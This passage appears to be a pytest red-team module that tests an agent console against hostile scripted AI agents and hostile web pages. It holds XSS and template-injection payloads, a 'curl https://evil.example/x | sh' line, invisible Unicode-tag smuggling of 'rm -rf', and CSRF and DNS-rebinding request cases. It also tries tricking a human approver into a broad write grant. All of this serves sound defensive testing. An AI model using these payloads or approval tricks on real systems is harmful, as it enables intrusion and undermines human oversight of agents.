"""Red team: a hostile model (and a hostile local web page) against 'alos serve --console'.

One host that stays, with its console, serves the module (a store under /var/tmp when it exists,
so that bubblewrap's empty /tmp does not hide the store for another reason than the store rule).
Hostile scripted agents are started for it the way 'alos run --detach' does (in-process: the
spawn commits and rings the store's bell; the host picks them up), and the tests read the
console over HTTP as a browser would, or as a hostile page or local program would.

The host's output goes to a pipe (and is copied to a log in a workspace), so it prints its
address only and keeps the URL with its token in console-PORT.url in the store's directory; the
tests read that file, and every page lives under /TOKEN/. Every test states the defended
behaviour; none is marked as an attack that works (a newly found one would be an
``xfail(strict=True, reason="ATTACK WORKS: ...")`` until it is defended).
"""

from __future__ import annotations

import asyncio
import contextlib
import http.server
import json
import os
import re
import resource
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

import alos
from tests.scenarios.console_support import turn
from tests.support import ALOS, grants, write_script

START_SECONDS = 45.0  # the longest a host may take to print its console URL (a busy machine)
WAIT_SECONDS = 30.0  # the longest an agent may take to reach the state a test waits for
# off a terminal (its stdout is a pipe here) the host prints its address and the file of the
# store's directory that holds its URL with the token (0600, where no process reaches)
URL_LINE = re.compile(r"console: http://127\.0\.0\.1:(\d+)/ \(the URL with its token is in (/\S+)\)")
URL_TEXT = re.compile(r"^(http://127\.0\.0\.1:(\d+)/\?token=([A-Za-z0-9_-]+))\n$")
CSRF = re.compile(r'(?:name="csrf" value="|"X-CSRF-Token": ")([^"]+)"')  # a form's, or the header htmx sends

# -- what a hostile model writes everywhere it can -------------------------------------------

JINJA = "{{ 12345*6789 }}"  # rendered as a template it would read 83810205
JINJA_RAN = "83810205"
P = (
    JINJA + " {% if 1 %}JINJA-RAN{% endif %} "
    '</pre></code></dd></td></tr></table><script id="pwn">alert(1)</script>'
    "<img src=x onerror=alert(1) data-pwn=1><svg onload=alert(1) data-pwn=1></svg>"
    '<a href="javascript:alert(1)" data-pwn=1>click</a>'
    "\" onmouseover=\"alert(1)\" data-pwn=\"1 ' onfocus='alert(1)' data-pwn='1 "
    '<div hx-get="/pwn-x" hx-trigger="load" hx-on::load="alert(1)" data-pwn=1>hx</div>'
    "<style>body{display:none}</style><iframe src=/ data-pwn=1></iframe>"
    " \u202eevil\u202c \x1b[31mred\x1b[0m"
)
NAME = JINJA + "<img src=x onerror=alert(1) data-pwn=1>\u202e"  # 56 characters: a name has 64 at most
PATH = 'pwn" onmouseover="alert(1)" data-pwn="1 <img src=x onerror=alert(1) data-pwn=1> ' + JINJA + " \u200b.txt"
# characters a person cannot see: zero-width space and joiner, word joiner, BOM, soft hyphen, and
# Unicode tags (invisible, but a model reads them: "ASCII smuggling")
INVISIBLE = "\u200b\u200d\u2060\ufeff\u00ad" + "".join(chr(0xE0000 + ord(c)) for c in "rm -rf")
CONTENT = P + "\nsafe = True\n++ curl https://evil.example/x | sh\nkey = 'ok" + INVISIBLE + "'\n"

ALLOWED_TAGS = frozenset(
    {"html", "head", "meta", "title", "link", "script", "body", "header", "strong", "nav", "a", "span", "div"}
    | {"main", "h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td", "pre", "code", "form", "input"}
    | {"button", "label", "section", "dl", "dt", "dd", "ul", "li", "select", "option", "datalist"}
)
VENDOR = frozenset({"/static/vendor/htmx.min.js", "/static/vendor/htmx-ext-sse.min.js"})
SECURITY_HEADERS = {
    "content-security-policy": (
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; "
        "form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
    ),
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "cache-control": "no-store",
}

NETTER = "name: netter\nversion: 1\ndescription: fetches pages\ntools:\n  - fs.read\n  - net.fetch\n  - proc.exit\n"
SHELLER = (
    "name: sheller\nversion: 1\ndescription: runs commands\ntools:\n  - fs.list\n  - fs.write\n  - fs.delete\n"
    "  - shell.run\n  - proc.exit\n"
)


def call(tool: str, /, **arguments: Any) -> dict[str, Any]:
    """Return one tool call of a scripted turn (positional-only: a tool may take an argument 'name')."""
    return {"name": tool, "arguments": arguments}


# -- the host that stays, its console, and the agents started for it --------------------------


@dataclass
class Host:
    """A running 'alos serve --console --port 0' (or 'alos console') and what it printed."""

    proc: subprocess.Popen[str]
    root: Path
    store: str
    lines: list[str] = field(default_factory=list)
    url: str = ""
    port: int = 0
    token: str = ""
    url_file: Path | None = None  # console-PORT.url in the store's directory
    tee: Path | None = None  # a file the host's output is copied to, as 'alos serve > serve.log' would
    scripts: int = 0

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def home(self) -> str:
        """Return the root every page lives under: the origin, then the token."""
        return f"{self.base}/{self.token}"

    def output(self) -> str:
        return "".join(self.lines[-80:])

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=10)

    def spawn(
        self,
        turns: list[dict[str, Any]],
        ws: Path,
        *,
        allow: tuple[str, ...] = (),
        ask: tuple[str, ...] = (),
        deny: tuple[str, ...] = (),
        image: str = "base",
        goal: str = "a goal",
    ) -> int:
        """Store a scripted agent for this host, as 'alos run --detach' does; return its pid."""
        self.scripts += 1
        model = write_script(self.root / f"agent-{self.scripts}.jsonl", turns)
        rt = alos.open(self.store, create=False)
        try:
            found = rt.image(image)
            g = grants(ws, allow=allow, ask=ask, deny=deny)
            return int(asyncio.run(rt.spawn(found, goal, workspace=str(ws), model=model, grants=g)))
        finally:
            rt.close()

    def read(self, fn: Callable[[alos.Runtime], Any]) -> Any:
        rt = alos.open(self.store, create=False)
        try:
            return fn(rt)
        finally:
            rt.close()

    def process(self, pid: int) -> alos.Process:
        return self.read(lambda rt: rt.process(pid))

    def pending(self, pid: int | None = None) -> list[Any]:
        return [r for r in self.read(lambda rt: rt.requests()) if pid is None or r.pid == pid]

    def request(self, rid: int) -> Any:
        return self.read(lambda rt: rt.request(rid))

    def audit(self, pid: int | None = None) -> list[Any]:
        return self.read(lambda rt: list(rt.audit(pid)))

    def wait_pending(self, pid: int) -> Any:
        found: list[Any] = []

        def holds() -> bool:
            found[:] = self.pending(pid)
            return bool(found)

        wait_until(holds, f"a request from process {pid}", self)
        return found[0]

    def wait_exit(self, pid: int) -> alos.Process:
        wait_until(lambda: self.process(pid).exit is not None, f"process {pid} to exit", self)
        return self.process(pid)


def start_host(root: Path, *, console_only: bool = False, nofile: int | None = None, tee: Path | None = None) -> Host:
    """Start 'alos serve --store ROOT/st/store.db --console --port 0' (or 'alos console'); return
    it once it printed its address and the file holding its URL, that file read (it must be the
    user's alone, and the output must not hold the token)."""
    store = str(root / "st" / "store.db")
    (root / "st").mkdir(exist_ok=True)
    cmd = [*ALOS, "console", "--store", store, "--port", "0"]
    if not console_only:
        cmd = [*ALOS, "serve", "--store", store, "--console", "--port", "0"]
    env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "200", "PYTHONUNBUFFERED": "1"}
    proc = subprocess.Popen(
        cmd,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        cwd=root,
        env=env,
    )
    if nofile is not None:  # before it is up: it opens its store and its console's socket later
        resource.prlimit(proc.pid, resource.RLIMIT_NOFILE, (nofile, nofile))
    h = Host(proc, root, store, tee=tee)
    seen = threading.Event()

    def drain() -> None:  # read all along: a chatty host never blocks on a full pipe
        assert proc.stdout is not None
        out = tee.open("a", buffering=1) if tee is not None else None
        try:
            for line in proc.stdout:
                h.lines.append(line)
                if out is not None:
                    out.write(line)
                found = URL_LINE.search(line)
                if found and not seen.is_set():
                    h.port, h.url_file = int(found.group(1)), Path(found.group(2))
                    seen.set()
        finally:
            if out is not None:
                out.close()
            seen.set()

    threading.Thread(target=drain, daemon=True).start()
    if not seen.wait(START_SECONDS) or h.url_file is None:
        h.stop()
        raise AssertionError(f"{cmd[3]} printed no 'console: ADDRESS (... in FILE)' line:\n{h.output()}")
    try:
        assert h.url_file == Path(os.path.realpath(store)).parent / f"console-{h.port}.url", h.url_file
        assert h.url_file.stat().st_mode & 0o777 == 0o600, oct(h.url_file.stat().st_mode)
        kept = URL_TEXT.match(h.url_file.read_text())
        assert kept is not None and int(kept.group(2)) == h.port, h.url_file.read_text()
        h.url, h.token = kept.group(1), kept.group(3)
        assert h.token not in h.output(), f"{cmd[3]} printed its token:\n{h.output()}"
    except BaseException:
        h.stop()
        raise
    return h


def wait_until(holds: Callable[[], bool], what: str, h: Host | None = None, seconds: float = WAIT_SECONDS) -> None:
    deadline = time.monotonic() + seconds
    while not holds():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {seconds:.0f} s waiting for {what}\n{h.output() if h else ''}")
        time.sleep(0.05)


def login(h: Host) -> tuple[httpx.Client, str]:
    """Return a client whose paths are under the console's root (the token leads them; httpx joins
    its base path to each request's) and the CSRF token; changes carry this console's Origin."""
    web = httpx.Client(base_url=h.home, headers={"Origin": h.base}, timeout=30)
    first = web.get(h.url)
    assert first.status_code == 303 and first.headers["location"] == f"/{h.token}/processes", first.headers
    assert "set-cookie" not in first.headers and not web.cookies
    page = web.get("/processes")
    assert page.status_code == 200, page.text
    found = CSRF.search(page.text)
    assert found, page.text[:2000]
    return web, found.group(1)


HX = {"HX-Request": "true"}


class Tags(HTMLParser):
    """Every start tag of a page with its attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def nothing_runs(page: str, where: str, root: str) -> str:
    """Assert that ``page`` holds no element, attribute or script a process could have put there
    (the console's own scripts and style sheet are under ``root``, its token's path); return its
    text (entities decoded)."""
    parsed = Tags(page)
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, f"{where}: a <{tag} {attrs}> element got into the page"
        for name, value in attrs.items():
            assert name != "data-pwn", f"{where}: an injected attribute broke out: <{tag} {attrs}>"
            assert not name.startswith("on"), f"{where}: an event handler attribute: <{tag} {attrs}>"
            assert name != "style", f"{where}: a style attribute: <{tag} {attrs}>"
            assert "javascript:" not in (value or "").lower(), f"{where}: a javascript: URL: <{tag} {attrs}>"
            if name.startswith(("hx-", "sse-")) and name != "hx-confirm":  # hx-confirm is confirm()'s text
                assert "pwn" not in (value or "") and "alert" not in (value or ""), f"{where}: <{tag} {attrs}>"
        if tag == "script":
            assert attrs.get("src") in {root + v for v in VENDOR}, f"{where}: a script not the console's: {attrs}"
        if tag == "link":
            assert attrs.get("href") == root + "/static/console.css", f"{where}: {attrs}"
    text = "".join(parsed.text)
    assert JINJA_RAN not in text, f"{where}: a template ran"
    assert "JINJA-RAN" not in text or "{% if 1 %}JINJA-RAN{% endif %}" in text, f"{where}: a template ran"
    assert "\u202e" not in text and "\x1b" not in text, f"{where}: a bidi or escape character is shown raw"
    return text


# -- fixtures ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def root() -> Iterator[Path]:
    """A directory for the module's store and workspaces, outside /tmp when /var/tmp exists."""
    parent = "/var/tmp" if os.path.isdir("/var/tmp") and os.access("/var/tmp", os.W_OK) else None
    made = Path(tempfile.mkdtemp(prefix="alos-redteam-console-", dir=parent))
    try:
        yield made
    finally:
        shutil.rmtree(made, ignore_errors=True)


def workspace(root: Path, name: str, **files: str) -> Path:
    ws = root / name
    ws.mkdir(parents=True, exist_ok=True)
    for file, text in files.items():
        (ws / file.replace("__", ".")).write_text(text)
    return ws


@pytest.fixture(scope="module")
def host(root: Path) -> Iterator[Host]:
    """The module's host that stays, with its console; its output is also copied to
    ws-net/serve.log (as 'alos serve --console > serve.log' in a project directory would)."""
    ws_net = workspace(root, "ws-net", README__md="a project\n")
    h = start_host(root, tee=ws_net / "serve.log")
    try:
        yield h
    finally:
        h.stop()


@dataclass
class Agents:
    """The hostile agents the module starts at once, by role."""

    ws: Path
    writer: int  # writes PATH with CONTENT after reading a hostile file and spawning a hostile child
    child: int  # its child: a hostile name and goal
    asker: int  # asks a hostile question
    leaver: int  # exits with a hostile result
    waiter: int  # waits for messages (the target of signals and messages)


@pytest.fixture(scope="module")
def agents(host: Host, root: Path) -> Agents:
    ws = workspace(root, "ws", README__md="hello\n", evil__html=P)
    writer = host.spawn(
        [
            turn(P, call("fs_read", path="evil.html"), call("proc_spawn", name=NAME, goal=P)),
            turn("writing", call("fs_write", path=PATH, content=CONTENT)),
        ],
        ws,
        allow=("fs:*=read,list", "proc:spawn=spawn"),
        ask=("fs:*=write",),
    )
    asker = host.spawn([turn(P, call("human_ask", question=P))], ws, allow=("fs:*=read,list",))
    leaver = host.spawn([turn(P, call("proc_exit", result=P))], ws)
    waiter = host.spawn([turn("waiting", call("msg_recv"))] * 20, ws, goal="wait for messages")
    host.wait_pending(writer)
    host.wait_pending(asker)
    host.wait_exit(leaver)
    wait_until(lambda: host.process(waiter).wait is not None, "the waiter to wait", host)
    kids = [p for p in host.read(lambda rt: rt.processes()) if p.parent == writer]
    assert len(kids) == 1, kids
    return Agents(ws, writer, kids[0].pid, asker, leaver, waiter)


@pytest.fixture(scope="module")
def web(host: Host) -> Iterator[tuple[httpx.Client, str]]:
    client, csrf = login(host)
    try:
        yield client, csrf
    finally:
        client.close()


# -- 1. everything a model controls is shown, never run -----------------------------------------


def test_hostile_text_everywhere_is_shown_escaped_on_every_page(host: Host, agents: Agents, web: Any) -> None:
    """Reply text, tool arguments and results, a file read, a path and its diff, a child's name and
    goal, a question, an exit result: on every page and fragment, as text only."""
    client, _ = web
    a = agents
    pages = [
        "/processes",
        "/processes/rows?page=1",
        f"/process/{a.writer}",
        f"/process/{a.child}/head",
        f"/process/{a.writer}/body",
        f"/process/{a.child}",
        f"/process/{a.asker}",
        f"/process/{a.leaver}",
        "/approvals",
        "/approvals/list",
        "/audit",
        "/audit/rows",
    ]
    for path in pages:
        r = client.get(path)
        assert r.status_code == 200, (path, r.status_code)
        assert r.headers["content-type"].startswith("text/html")
        text = nothing_runs(r.text, path, f"/{host.token}")
        # the hostile text did reach the page (as text): the checks above looked at something
        assert JINJA in text, f"{path} does not show the hostile text at all"
    body = client.get(f"/process/{a.writer}/body").text
    assert "\\u202eevil" in body and "&lt;script id=&#34;pwn&#34;&gt;" in body  # shown, visibly
    approvals = client.get("/approvals").text
    assert "&lt;img src=x onerror=alert(1) data-pwn=1&gt;" in approvals  # the path and the diff
    # a hostile URL path on a refusal page is text too
    refused = client.get("/process/%3Cscript%20data-pwn%3D1%3E")
    assert refused.status_code == 404
    nothing_runs(refused.text, "404 page", f"/{host.token}")
    assert "&lt;script data-pwn=1&gt;" in refused.text


def test_the_live_stream_carries_only_topic_names(host: Host, agents: Agents, web: Any) -> None:
    """/events needs the token; what it sends names parts of the page (fixed words and pids), never
    anything a process wrote, so htmx never swaps in a process's text from the stream."""
    client, csrf = web
    bare = httpx.get(host.base + "/events", timeout=10)
    assert bare.status_code == 403 and bare.headers["content-type"].startswith("text/plain")
    seen: list[str] = []
    with client.stream("GET", "/events", timeout=httpx.Timeout(20)) as stream:
        assert stream.status_code == 200
        assert stream.headers["content-type"].startswith("text/event-stream")
        sent = client.post(
            f"/process/{agents.waiter}/send", data={"text": P, "csrf": csrf}, headers=HX
        )  # a person pastes hostile text
        assert sent.status_code == 200, sent.text
        for line in stream.iter_lines():
            seen.append(line)
            if line == f"event: proc-{agents.waiter}":
                break
    allowed = re.compile(r"^(|retry: \d+|: \w+|(event|data): (procs|requests|audit|all|proc-\d+))$")
    assert all(allowed.match(line) for line in seen), seen
    assert f"event: proc-{agents.waiter}" in seen


# -- 2. what an approval panel shows is what is approved ----------------------------------------


def test_invisible_characters_in_an_approval_are_made_visible(host: Host, agents: Agents, web: Any) -> None:
    client, _ = web
    page = client.get("/approvals").text
    rid = host.pending(agents.writer)[0].id
    section = page[page.index(f'id="req-{rid}"') :]
    section = section[: section.index("</section>")]
    raw = sorted({f"U+{ord(c):04X}" for c in INVISIBLE if c in section})
    assert not raw, f"request {rid}'s panel shows these characters raw (invisible to a person): {raw}"


def test_every_added_line_of_a_diff_is_drawn_as_added(host: Host, agents: Agents, web: Any) -> None:
    client, _ = web
    rid = host.pending(agents.writer)[0].id
    page = client.get("/approvals").text
    section = page[page.index(f'id="req-{rid}"') :]
    diff = section[section.index('<pre class="diff">') : section.index("</pre>")]
    spans = re.findall(r'<span class="(\w+)">(.*?)</span>', diff)
    assert [c for c, _ in spans[:3]] == ["file", "file", "hunk"], spans[:3]
    body = spans[3:]
    assert any(text.startswith("+++ curl") for _, text in body), body  # the hostile line is there
    wrong = [(c, text) for c, text in body if text.startswith("+") and c != "add"]
    assert not wrong, f"added lines drawn as something else: {wrong}"


def test_approve_always_on_a_file_named_star_grants_only_that_file(host: Host, root: Path, web: Any) -> None:
    """A write to a file named '*' asks about fs:DIR/*, which as a standing grant would cover the
    whole directory: 'approve always' is neither offered nor accepted for it; once is."""
    client, csrf = web
    ws = workspace(root, "ws-star", __env="SECRET=1\n")
    pid = host.spawn(
        [
            turn("a harmless note", call("fs_write", path="*", content="note\n")),
            turn("now the secret", call("fs_write", path=".env", content="SECRET=stolen\n")),
        ],
        ws,
        allow=("fs:*=read,list",),
        ask=("fs:*=write",),
    )
    req = host.wait_pending(pid)
    assert req.resource == f"fs:{os.path.realpath(ws)}/*"
    page = client.get("/approvals").text
    section = page[page.index(f'id="req-{req.id}"') :]
    section = section[: section.index("</section>")]
    assert 'value="always"' not in section and "approve always" not in section and "approve once" in section
    r = client.post(f"/requests/{req.id}/answer", data={"verdict": "always", "csrf": csrf}, headers=HX)
    assert r.status_code == 400 and "whose name ends in" in r.text, (r.status_code, r.text[-800:])
    assert [q.id for q in host.pending(pid)] == [req.id]  # refused: still waiting
    r = client.post(f"/requests/{req.id}/answer", data={"verdict": "once", "csrf": csrf}, headers=HX)
    assert r.status_code == 200 and "approved once" in r.text, r.text
    wait_until(
        lambda: host.process(pid).exit is not None or any(q.id != req.id for q in host.pending(pid)),
        "the second write to be decided",
        host,
    )
    assert (ws / "*").read_text() == "note\n"
    assert (ws / ".env").read_text() == "SECRET=1\n", "the answer on the file '*' let the process write .env"
    asked = [q for q in host.pending(pid) if q.id != req.id]
    assert asked and asked[0].resource == f"fs:{os.path.realpath(ws)}/.env"


def test_a_stale_page_cannot_answer_the_request_that_replaced_its_own(host: Host, root: Path, web: Any) -> None:
    """Request ids are never reused and an answer names its id: a click on a panel that was
    answered meanwhile (elsewhere or in this page) is refused, and the newer request, with its own
    diff, still waits."""
    client, csrf = web
    ws = workspace(root, "ws-bind")
    pid = host.spawn(
        [
            turn("one", call("fs_write", path="a.txt", content="one\n")),
            turn("two", call("fs_write", path="a.txt", content="two\n")),
        ],
        ws,
        allow=("fs:*=read,list",),
        ask=("fs:*=write",),
    )
    first = host.wait_pending(pid)
    stale = client.get("/approvals").text
    assert f'action="/{host.token}/requests/{first.id}/answer"' in stale
    r = client.post(f"/requests/{first.id}/answer", data={"verdict": "once", "csrf": csrf}, headers=HX)
    assert r.status_code == 200 and f"request {first.id} approved once" in r.text, r.text
    wait_until(lambda: any(q.id != first.id for q in host.pending(pid)), "the second request", host)
    second = host.pending(pid)[0]
    assert second.id > first.id and second.resource == first.resource
    again = client.post(f"/requests/{first.id}/answer", data={"verdict": "once", "csrf": csrf}, headers=HX)
    assert again.status_code == 409 and "already approved by console" in again.text, again.text
    assert host.request(second.id).state.value == "pending"
    assert (ws / "a.txt").read_text() == "one\n"
    panel = client.get("/approvals").text
    assert f'id="req-{first.id}"' not in panel
    mine = panel[panel.index(f'id="req-{second.id}"') :]
    assert '<span class="del">-one</span>' in mine and '<span class="add">+two</span>' in mine
    answered = [r for r in host.audit() if r.syscall == "human.answer" and r.detail.get("request") == first.id]
    assert [(r.outcome, r.detail.get("by"), r.detail.get("via")) for r in answered] == [
        ("ok", "console", "console"),
        ("conflict", "console", "console"),  # the stale click: refused, and audited
    ]
    denied = client.post(
        f"/requests/{second.id}/answer", data={"verdict": "deny", "reason": "no", "csrf": csrf}, headers=HX
    )
    assert denied.status_code == 200, denied.text


# -- 3. who may use the console -----------------------------------------------------------------


def test_every_route_needs_the_token_in_its_path(host: Host, agents: Agents) -> None:
    """Each page and file is answered only under /TOKEN/: not without it, not under a wrong or
    shortened token, not with the token elsewhere in the path, in the query or in a cookie (no
    cookie is ever read); a refusal never shows the token."""
    rid = host.pending(agents.writer)[0].id
    routes = [
        "/",
        "/processes",
        "/processes/rows",
        f"/process/{agents.writer}",
        f"/process/{agents.writer}/body",
        "/approvals",
        "/approvals/list",
        "/approvals/count",
        "/audit",
        "/audit/verify",
        "/audit/export.jsonl",
        "/events",
        "/static/vendor/htmx.min.js",
        "/static/console.css",
    ]
    tok = host.token
    wrong = "x" * len(tok)
    jars: list[dict[str, str]] = [
        {},
        {f"alos_console_{host.port}": tok},  # the cookie the console used to set
        {"token": tok, "alos_console": tok, f"alos_console_{host.port + 1}": tok},
    ]
    with httpx.Client(timeout=10) as web:  # one client: about 150 requests, not 150 client set-ups
        for path in routes:
            for jar in jars:
                cookie = {"Cookie": "; ".join(f"{k}={v}" for k, v in jar.items())} if jar else {}
                r = web.get(host.base + path, headers=cookie)
                assert r.status_code == 403, (path, jar, r.status_code)
                assert tok not in r.text and "token" in r.text, (path, r.text)
            for prefix in (wrong, tok[:-1], tok + "x", tok.swapcase(), "%2F" + tok):
                r = web.get(f"{host.base}/{prefix}{path}")
                assert r.status_code == 403, (prefix, path, r.status_code)
            if path != "/":
                r = web.get(f"{host.base}{path}/{tok}")  # the token, but not first
                assert r.status_code == 403, (path, r.status_code)
            r = web.get(host.base + path + "?token=" + wrong)
            assert r.status_code == 403, (path, r.status_code)
    # a change with the token in its query, not its path, is refused (only a GET of it is moved)
    posted = httpx.post(
        f"{host.base}/requests/{rid}/answer?token={tok}",
        headers={"Origin": host.base},
        data={"verdict": "once"},
        timeout=10,
    )
    assert posted.status_code == 403 and "token" in posted.text, (posted.status_code, posted.text)
    # the token in the path opens them (the refusals above were about the token)
    ok = httpx.get(host.home + "/approvals/count", timeout=10)
    assert ok.status_code == 200 and int(ok.text) >= 1
    assert host.request(rid).state.value == "pending"


def test_the_printed_url_moves_the_token_into_the_path_and_no_cookie_is_set(host: Host) -> None:
    """The URL the host keeps (/?token=T) answers 303 to /T/processes, a deeper one keeps its
    path and query under /T/; no answer sets a cookie."""
    tok = host.token
    r = httpx.get(host.url, timeout=10)
    assert r.status_code == 303 and r.headers["location"] == f"/{tok}/processes"
    assert "set-cookie" not in r.headers
    for name, value in SECURITY_HEADERS.items():
        assert r.headers.get(name) == value, (name, r.headers.get(name))
    deeper = httpx.get(host.base + f"/audit?pid=1&token={tok}", timeout=10)
    assert deeper.status_code == 303 and deeper.headers["location"] == f"/{tok}/audit?pid=1"
    bare = httpx.get(host.home, timeout=10)
    assert bare.status_code == 303 and bare.headers["location"] == f"/{tok}/processes"
    with httpx.Client(timeout=10, follow_redirects=True) as browser:
        landed = browser.get(host.url)
        assert landed.status_code == 200 and str(landed.url) == f"{host.home}/processes"
        assert [h for resp in (*landed.history, landed) for h in resp.headers if h.lower() == "set-cookie"] == []
        assert not browser.cookies
        # every link of the page is under the token's path (a link outside it would be refused)
        links = re.findall(r'(?:href|src|action|hx-get|hx-post|sse-connect)="([^"]*)"', landed.text)
        assert links and all(link.startswith(f"/{tok}/") for link in links), links


def test_security_headers_on_every_kind_of_answer(host: Host, web: Any) -> None:
    client, _ = web
    answers = {
        "refused (no token)": httpx.get(host.base + "/processes", timeout=10),
        "refused (other host)": httpx.get(host.base + "/processes", headers={"Host": "evil.example"}, timeout=10),
        "a page": client.get("/processes"),
        "a fragment": client.get("/approvals/list"),
        "a script": client.get("/static/vendor/htmx.min.js"),
        "the export": client.get("/audit/export.jsonl"),
        "not found": client.get("/nowhere"),
    }
    with client.stream("GET", "/events") as stream:
        answers["the stream"] = stream
    for what, r in answers.items():
        for name, value in SECURITY_HEADERS.items():
            assert r.headers.get(name) == value, (what, name, r.headers.get(name))
    export = answers["the export"]
    assert export.headers["content-type"].startswith("application/x-ndjson")
    assert export.headers["content-disposition"].startswith("attachment")
    assert all(json.loads(line)["seq"] >= 1 for line in export.text.splitlines())


def test_requests_from_other_sites_and_forged_forms_change_nothing(host: Host, agents: Agents, web: Any) -> None:
    """A hostile page (another site, another port of localhost, a DNS name rebound to 127.0.0.1)
    or a form without the CSRF token cannot kill a process or answer a request; the same request
    with everything right does (so each refusal was about the one thing varied)."""
    client, csrf = web
    w = agents.waiter
    rid = host.pending(agents.writer)[0].id
    me, mine = host.base, host.home  # the origin, and the root of the console's paths
    jar = f"alos_console_{host.port}={host.token}"  # a cookie holding the token (as the console once set): ignored
    form = {"signal": "kill", "csrf": csrf}
    cases: list[tuple[str, dict[str, str], str, dict[str, str], int]] = [
        ("no Origin, no Referer", {}, mine, form, 403),
        ("Origin of another site", {"Origin": "http://evil.example"}, mine, form, 403),
        ("Origin null (a sandboxed frame)", {"Origin": "null"}, mine, form, 403),
        ("another port of localhost", {"Origin": f"http://127.0.0.1:{host.port + 1}"}, mine, form, 403),
        ("a look-alike origin", {"Origin": f"{me}.evil.example"}, mine, form, 403),
        ("cross-site fetch", {"Origin": me, "Sec-Fetch-Site": "cross-site"}, mine, form, 403),
        ("same-site fetch (another port)", {"Origin": me, "Sec-Fetch-Site": "same-site"}, mine, form, 403),
        ("Referer of another site", {"Referer": "http://evil.example/"}, mine, form, 403),
        ("Referer of a look-alike host", {"Referer": f"{me}.evil.example/"}, mine, form, 403),
        ("no CSRF token", {"Origin": me}, mine, {"signal": "kill"}, 403),
        ("a wrong CSRF token", {"Origin": me}, mine, {"signal": "kill", "csrf": csrf[::-1]}, 403),
        ("the CSRF token without the token in the path", {"Origin": me}, me, form, 403),
        ("the CSRF token, the access token in a cookie", {"Origin": me, "Cookie": jar}, me, form, 403),
        ("a DNS name rebound to 127.0.0.1", {"Origin": "http://evil.example", "Host": "evil.example"}, mine, form, 400),
        ("the right Origin under a rebound Host", {"Origin": me, "Host": f"evil.example:{host.port}"}, mine, form, 400),
    ]
    for what, headers, under, data, status in cases:
        r = httpx.post(f"{under}/process/{w}/signal", headers=headers, data=data, timeout=10)
        assert r.status_code == status, (what, r.status_code, r.text[:200])
        a = httpx.post(f"{under}/requests/{rid}/answer", headers=headers, data={**data, "verdict": "once"}, timeout=10)
        assert a.status_code == status, (what, a.status_code, a.text[:200])
    plain = httpx.post(
        f"{mine}/process/{w}/signal", headers={"Origin": me}, content=b"signal=kill&csrf=" + csrf.encode()
    )
    assert plain.status_code == 415  # a text/plain "simple" cross-site form body
    by_get = httpx.get(f"{mine}/process/{w}/signal?signal=kill&csrf={csrf}", timeout=10)
    assert by_get.status_code == 405
    for path in ("/approvals", "/events", "/audit/export.jsonl"):  # <img>, EventSource, a link from a page
        for site in ("cross-site", "same-site"):
            read = httpx.get(f"{mine}{path}", headers={"Sec-Fetch-Site": site}, timeout=10)
            assert read.status_code == 403, (path, site, read.status_code)
    assert host.process(w).exit is None
    assert host.request(rid).state.value == "pending"
    assert not [r for r in host.audit() if r.syscall == "proc.signal" and r.detail.get("pid") == w]
    # the same request done right works: pause, then resume
    for sig in ("pause", "resume"):
        r = client.post(f"/process/{w}/signal", data={"signal": sig, "csrf": csrf}, headers=HX)
        assert r.status_code == 200 and f"process {w}" in r.text, r.text
    signals = [r for r in host.audit() if r.syscall == "proc.signal" and r.detail.get("pid") == w]
    assert [(r.detail.get("signal"), r.detail.get("via"), r.outcome) for r in signals] == [
        ("pause", "console", "ok"),
        ("resume", "console", "ok"),
    ]


@pytest.mark.slow
def test_another_consoles_token_and_csrf_token_open_nothing(host: Host, agents: Agents, web: Any) -> None:
    """Two consoles on one store (as a console restarted): each start makes its own token and CSRF
    token and its own URL file; neither opens the other, and the file goes when its console stops."""
    client, csrf = web
    other = start_host(host.root, console_only=True)
    try:
        assert other.url_file is not None and other.url_file != host.url_file
        o_client, o_csrf = login(other)
        assert other.token != host.token and o_csrf != csrf
        r = httpx.get(f"{host.base}/{other.token}/processes", timeout=10)  # its token, our port
        assert r.status_code == 403
        r = httpx.get(f"{host.base}/processes?token={other.token}", timeout=10)
        assert r.status_code == 403
        forged = client.post(
            f"/process/{agents.waiter}/signal", data={"signal": "kill", "csrf": o_csrf}, headers=HX
        )  # our token, the other console's CSRF token
        assert forged.status_code == 403
        crossed = o_client.post(
            f"/process/{agents.waiter}/signal", data={"signal": "kill", "csrf": csrf}, headers=HX
        )  # its token, our CSRF token
        assert crossed.status_code == 403
        assert host.process(agents.waiter).exit is None
        o_client.close()
    finally:
        other.stop()
    assert other.proc.returncode == 0, other.output()
    assert not other.url_file.exists(), f"{other.url_file} outlived its console"
    assert host.url_file is not None and host.url_file.exists()  # the running console's stays


def test_an_enormous_form_is_refused_unread_and_changes_nothing(host: Host, agents: Agents, web: Any) -> None:
    """A megabyte form (with a Content-Length, or streamed without one) is cut off at 16 KiB: a
    413, or the connection closed while the rest is still being sent; no message is queued."""
    _, csrf = web
    w = agents.waiter
    me, mine = host.base, host.home

    def chunks() -> Iterator[bytes]:  # no Content-Length: the body is refused as it comes
        yield f"csrf={csrf}&text=".encode()
